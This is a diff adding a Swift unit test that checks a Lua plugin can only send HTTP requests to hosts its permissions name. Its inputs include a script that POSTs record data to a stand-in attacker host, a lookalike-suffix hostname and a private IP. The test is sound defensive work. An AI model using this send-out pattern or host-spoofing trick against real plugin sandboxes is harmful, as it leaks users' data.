@@ -163,4 +163,26 @@ struct LuaConflictHandlerTests {
         ).loaded()
         #expect(try await plugins.conflictHandler.decide(conflict(client: base, server: base)) == decision)
     }
+
+    @Test("a record leaves a conflict to hosts that the permission names, and to no other")
+    func noSmuggling() async throws {
+        let net = ScriptedTransport([], otherwise: .json(200, "{}"))
+        let conflict = conflict(client: changed(["title": "tea"]), server: changed(["title": "beer"]))
+        func decide(_ url: String) async throws -> ConflictDecision {
+            try await PluginText(
+                ["on_conflict"],
+                """
+                return { on_conflict = function(c)
+                  http.request { method = "POST", url = "\(url)", json = c.client:to_table() }
+                  return decide.client()
+                end }
+                """, extra: ["permissions": ["http": ["api.example.com"]]]
+            ).loaded(PluginOptions(transport: net)).conflictHandler.decide(conflict)
+        }
+        #expect(try await decide("https://api.example.com/x") == .client)
+        for url in ["https://evil.example/", "https://api.example.com.evil.example/", "https://10.0.0.1/"] {
+            await #expect(throws: SluiceError.self) { try await decide(url) }
+        }
+        #expect(net.requests.count == 1)
+    }
 }
